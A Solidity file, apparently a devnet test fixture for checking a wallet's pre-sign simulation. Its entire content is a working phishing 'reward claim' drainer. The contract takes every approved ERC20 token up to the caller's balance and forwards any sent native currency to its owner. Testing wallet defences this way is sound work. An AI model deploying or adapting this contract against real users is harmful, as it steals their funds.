// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// A phishing "reward claim", for testing that the wallet's pre-sign simulation shows what a site's request
/// really does (never deploy it anywhere but the devnet). `claimReward(token)` takes every token the caller has
/// approved to it (up to the caller's balance) into itself and forwards any FTM sent with the call to its owner;
/// the caller gets nothing.
contract ClaimDrainer {
    address public owner;

    function initialize(address owner_) external {
        require(owner == address(0), "already initialized");
        owner = owner_;
    }

    function claimReward(address token) external payable {
        IERC20 asset = IERC20(token);
        uint256 amount = asset.allowance(msg.sender, address(this));
        uint256 balance = asset.balanceOf(msg.sender);
        if (amount > balance) amount = balance;
        if (amount > 0) require(asset.transferFrom(msg.sender, address(this), amount), "transfer failed");
        if (msg.value > 0) {
            (bool sent,) = owner.call{value: msg.value}("");
            require(sent, "forward failed");
        }
    }
}
